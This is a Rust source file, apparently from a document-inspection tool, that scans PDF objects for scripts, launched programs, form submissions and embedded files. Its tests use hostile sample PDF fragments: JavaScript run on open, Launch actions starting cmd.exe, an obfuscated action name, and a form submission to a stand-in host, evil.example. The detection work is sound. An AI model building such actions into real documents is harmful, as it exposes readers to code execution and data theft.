//! What a document does besides showing pages: scripts, programs it starts, forms it sends, files inside of it.
//!
//! All objects are looked at, and not what hangs on the catalog alone: a viewer reaches an action by way of pages, fields,
//! outlines and name trees, and a sender hides it behind any of them.

use hayro_interpret::hayro_syntax::{
    Pdf,
    object::{Dict, MaybeRef, Name, Object},
};

use super::{add, decode};
use crate::{budget::Budget, media::Extract};

/// Objects that are looked at; a document of a thousand pages of text has some 5,000.
const MOST_OBJECTS: usize = 20_000;
/// Objects between two looks at the clock.
const CLOCK: usize = 256;
/// Dictionaries in dictionaries: an action stands in an annotation, in its list of events.
const DEEP: usize = 6;
/// Actions that are kept, each kind and name once.
const MOST: usize = 32;
/// Letters kept of a name.
const MOST_NAME: usize = 200;

/// Notes the actions (ISO 32000-1, 12.6.4) and embedded files (7.11.4) of a document, and where its forms go.
pub fn find(pdf: &Pdf, budget: &Budget, extract: &mut Extract) {
    for (index, object) in pdf.objects().into_iter().take(MOST_OBJECTS).enumerate() {
        if index % CLOCK == CLOCK - 1 && budget.expired() {
            break;
        }
        look(&object, DEEP, extract);
    }
}

fn look(object: &Object<'_>, deep: usize, extract: &mut Extract) {
    match object {
        Object::Dict(dict) => dictionary(dict, deep, extract),
        Object::Stream(stream) => dictionary(stream.dict(), deep, extract),
        Object::Array(array) if deep > 0 => {
            // What is elsewhere is looked at there.
            for item in array.raw_iter() {
                if let MaybeRef::NotRef(item) = item {
                    look(&item, deep - 1, extract);
                }
            }
        }
        _ => {}
    }
}

fn dictionary(dict: &Dict<'_>, deep: usize, extract: &mut Extract) {
    action(dict, false, extract);
    if dict.contains_key("EF") {
        let name = name(dict, &["UF", "F"]);
        note(extract, false, "file", &name);
    }
    // What is done as the document is opened is said once more without that: it is an object like any other.
    if let Some(Object::Dict(first)) = dict.get::<Object<'_>>("OpenAction") {
        action(&first, true, extract);
    }
    if deep > 0 {
        for (_, value) in dict.entries() {
            if let MaybeRef::NotRef(value) = value {
                look(&value, deep - 1, extract);
            }
        }
    }
}

/// `opens` is whether it is done as the document is opened.
fn action(dict: &Dict<'_>, opens: bool, extract: &mut Extract) {
    let Some(kind) = dict.get::<Name<'_>>("S") else { return };
    match &*kind {
        b"JavaScript" => note(extract, opens, "javascript", ""),
        b"Launch" => {
            let inner = dict.get::<Dict<'_>>("Win");
            let target = inner.map_or_else(|| name(dict, &["F"]), |windows| name(&windows, &["F"]));
            note(extract, opens, "launch", &target);
        }
        b"SubmitForm" => {
            let target = name(dict, &["F"]);
            note(extract, opens, "submit", &target);
            add(&mut extract.uris, target);
        }
        b"GoToR" | b"GoToE" => note(extract, opens, "document", &name(dict, &["F"])),
        b"ImportData" => note(extract, opens, "import", &name(dict, &["F"])),
        _ => {}
    }
}

/// A file's name: a string, or a specification that has one.
fn name(dict: &Dict<'_>, keys: &[&str]) -> String {
    let found = keys.iter().find_map(|key| match dict.get::<Object<'_>>(*key)? {
        Object::String(name) => Some(decode(&name)),
        Object::Dict(file) => ["UF", "F"].iter().find_map(|key| match file.get::<Object<'_>>(*key)? {
            Object::String(name) => Some(decode(&name)),
            _ => None,
        }),
        _ => None,
    });
    found.unwrap_or_default().chars().take(MOST_NAME).collect()
}

fn note(extract: &mut Extract, opens: bool, what: &str, name: &str) {
    let when = if opens { "open: " } else { "" };
    let action = match name {
        "" => format!("{when}{what}"),
        name => format!("{when}{what} {}", name.replace(char::is_control, " ")),
    };
    if extract.actions.len() < MOST && !extract.actions.contains(&action) {
        extract.actions.push(action);
    }
}

#[cfg(test)]
mod tests {
    use super::{
        super::tests::{file, look},
        MOST,
    };

    #[test]
    fn what_a_document_does_is_told() {
        let cases: [(&str, &[&str], &[&str]); 7] = [
            (
                "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
                &[],
                &["open: javascript", "javascript"],
            ),
            (
                "/OpenAction 4 0 R",
                &["<< /S /Launch /F (cmd.exe) >>"],
                &["open: launch cmd.exe", "launch cmd.exe"],
            ),
            ("/AA << /WC << /S /Launch /Win << /F (a\\nb.exe) /P (x) >> >> >>", &[], &["launch a b.exe"]),
            (
                "",
                &[
                    "<< /Type /Filespec /F (x) /UF <FEFF0061002E006A0073> /EF << /F 5 0 R >> >>",
                    "<< /Length 0 >>\nstream\n\nendstream",
                ],
                &["file a.js"],
            ),
            (
                "",
                &[
                    "[ << /Kids [ << /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/x) >> >> >> ] >> ]",
                ],
                &["submit http://evil.example/x"],
            ),
            // Letters of a name may be written as numbers.
            ("", &["<< /S /J#61vaScript /JS (1) >>"], &["javascript"]),
            ("/OpenAction [ 3 0 R /Fit ]", &["<< /S /GoTo /D (a) >>", "<< /S /Transparency >>"], &[]),
        ];
        for (catalog, objects, actions) in cases {
            let extract = look(&file(catalog, objects)).unwrap();
            assert_eq!(extract.actions, actions, "{catalog} {objects:?}");
            let sent = actions.iter().filter_map(|action| action.strip_prefix("submit "));
            assert_eq!(extract.uris, sent.collect::<Vec<_>>());
        }
    }

    #[test]
    fn a_document_full_of_actions_tells_a_few() {
        let actions: Vec<String> = (0..100).map(|n| format!("<< /S /Launch /F (a{n}.exe) >>")).collect();
        let actions: Vec<&str> = actions.iter().map(|action| &action[..]).collect();
        assert_eq!(look(&file("", &actions)).unwrap().actions.len(), MOST);
        // Nor do dictionaries in dictionaries without end keep it.
        let deep = "<< /A ".repeat(5000) + "<< /S /JavaScript >>" + &" >>".repeat(5000);
        assert!(look(&file("", &[&deep])).unwrap().actions.is_empty());
    }
}
